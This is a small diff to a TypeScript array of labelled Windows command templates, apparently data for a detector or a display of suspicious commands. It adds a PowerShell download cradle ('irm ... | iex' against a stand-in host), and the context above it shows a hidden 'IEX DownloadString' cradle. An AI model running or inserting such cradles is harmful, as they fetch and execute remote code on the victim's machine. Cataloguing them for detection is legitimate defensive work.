@@ -151,6 +151,7 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
     'windows',
     'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"',
   ],
+  ['powershell-download-cradle', 'windows', "irm 'https://relay.example/agent?t=7' | iex"],
   [
     'powershell-download-to-user-folder',
     'windows',
